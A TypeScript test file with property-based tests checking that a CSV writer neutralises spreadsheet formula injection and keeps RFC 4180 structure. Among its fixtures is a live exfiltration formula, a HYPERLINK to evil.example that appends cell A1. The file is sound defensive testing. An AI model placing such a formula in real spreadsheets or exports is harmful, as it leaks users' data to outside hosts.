// AT-36: whatever stands in a cell, no spreadsheet runs it, and a reader of RFC 4180 gets the table
// with its rows and columns as they were.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { parse } from 'csv-parse/sync';
import { array, assert as always, constantFrom, property, string } from './support/properties.ts';

import { plainCell, showCsv } from '../src/csv-cells.ts';

/** What is written for each: by the letter. */
const cells: readonly (readonly [cell: string, written: string])[] = [
  ['=1+1', "'=1+1"],
  [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`,
  ],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', `"'\tx"`],
  ['\rx', '"\'\rx"'],
  ['\nx', '"\'\nx"'],
  ['\0', "'\0"],
  ["'=x", "''=x"],
  ["''+x", "'''+x"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
  ['a=b', 'a=b'],
  ["it's", "it's"],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['a;=1+1;b', `"a;'=1+1;b"`],
  ['a;"=1', `"a;'""=1"`],
  ["a;'=1", `"a;''=1"`],
  ['a\t@b', `"a\t'@b"`],
  ['a\n-b', `"a\n'-b"`],
  ['a"b', '"a""b"'],
  ['a\r\nb', '"a\r\nb"'],
  [' =x', '" =x"'],
  ['', ''],
];

test('cells by the letter', () => {
  assert.deepEqual(
    cells.map(([cell]) => showCsv([[cell]])),
    cells.map(([, written]) => `${written}\r\n`),
  );
});

test('a cell of a megabyte is one cell, and no formula', () => {
  const cell = `=${'"x,\r\n'.repeat(200_000)}`;
  const [row]: string[][] = parse(showCsv([['a', cell, 'b']]));
  assert.deepEqual(row, ['a', `'${cell}`, 'b']);
});

const piece = constantFrom(
  '=',
  '+',
  '-',
  '@',
  '＝',
  "'",
  '"',
  ',',
  ';',
  '\n',
  '\r\n',
  '\t',
  '\0',
  'a',
);
const cellOf = array(piece, { maxLength: 5 }).map((pieces) => pieces.join(''));

test('a reader of RFC 4180 gets as many rows and cells, and none begins a formula', () => {
  always(
    property(array(array(cellOf, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
      const marked = rows.map((row) => ['x', ...row]);
      const read: string[][] = parse(showCsv(marked), { record_delimiter: '\r\n' });
      assert.equal(read.length, rows.length);
      for (const row of read) {
        assert.equal(row.length, 4);
        for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0＝＋－＠]/);
      }
    }),
    { numRuns: 500 },
  );
});

test('a spreadsheet of a country with a decimal comma finds no formula either', () => {
  always(
    property(array(array(cellOf, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
      // Quotes count only where a cell begins with them; here each begins with our comma or words.
      const cells = showCsv(rows.map((row) => ['x', ...row])).split(/[;\t\r\n]/);
      for (const cell of cells) assert.doesNotMatch(cell, /^"*[=+\-@＝＋－＠]/);
    }),
    { numRuns: 500 },
  );
});

test('what is written is read back, but for blanks around', () => {
  always(
    property(string({ unit: piece }), (given) => {
      const cell = given.trim();
      const [row]: string[][] = parse(showCsv([['x', cell]]), { record_delimiter: '\r\n' });
      assert.equal(plainCell(row?.[1] ?? ''), cell);
    }),
  );
});
